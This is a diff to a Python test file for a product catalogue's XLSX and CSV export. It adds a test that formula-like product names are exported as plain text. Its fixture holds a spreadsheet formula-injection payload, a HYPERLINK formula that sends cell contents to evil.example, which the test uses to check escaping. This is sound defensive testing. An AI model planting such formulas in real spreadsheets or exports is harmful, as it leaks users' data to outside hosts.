@@ -1,5 +1,6 @@
 """Catalogue export in the OFN product-list format, and the import ∘ export round trip."""
 
+import csv
 import io
 from decimal import Decimal
 
@@ -9,7 +10,15 @@ from openpyxl import load_workbook
 from cabas.catalogue.exports import catalogue_csv, catalogue_xlsx
 from cabas.catalogue.imports import OFN_COLUMNS, product_import
 from cabas.catalogue.models import Category, TaxRate
-from tests.factories import EnterpriseFactory, ProductFactory, VariantFactory
+from cabas.enterprises.models import Relationship
+from tests.factories import (
+    EnterpriseFactory,
+    HubFactory,
+    ProductFactory,
+    RelationshipFactory,
+    RoleFactory,
+    VariantFactory,
+)
 
 
 def catalogue(enterprise):
@@ -117,3 +126,27 @@ def test_it_exports_in_a_constant_number_of_queries(client_for, manager, enterpr
         body = b"".join(response.streaming_content)
 
     assert body.count(b"\r\n") == 31
+
+
+def test_it_exports_a_product_named_like_a_formula_as_text_never_a_formula(client_for, enterprise):
+    hub = HubFactory(name="Épicerie du Marché", slug="epicerie")
+    RelationshipFactory(grantor=enterprise, grantee=hub, manage_products=True, status=Relationship.Status.ACCEPTED)
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    VariantFactory(product__producer=enterprise, product__name=name, product__description="+33 cmd", sku="EVIL")
+    client = client_for(RoleFactory(enterprise=hub, role="manager").user)
+
+    response = client.get(reverse("catalogue:product_export_xlsx", args=[hub.slug]))
+
+    sheet = load_workbook(io.BytesIO(response.content)).active  # not read-only: it keeps the cell types
+    header = [cell.value for cell in sheet[1]]
+    name_cell = sheet.cell(row=2, column=header.index("name") + 1)
+    description_cell = sheet.cell(row=2, column=header.index("description") + 1)
+    assert (name_cell.data_type, name_cell.value) == ("s", name)
+    assert (description_cell.data_type, description_cell.value) == ("s", "+33 cmd")
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+    response = client.get(reverse("catalogue:product_export_csv", args=[hub.slug]))
+
+    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert row["name"] == "'" + name  # a leading apostrophe: spreadsheets show the text, never run it
+    assert row["description"] == "'+33 cmd"
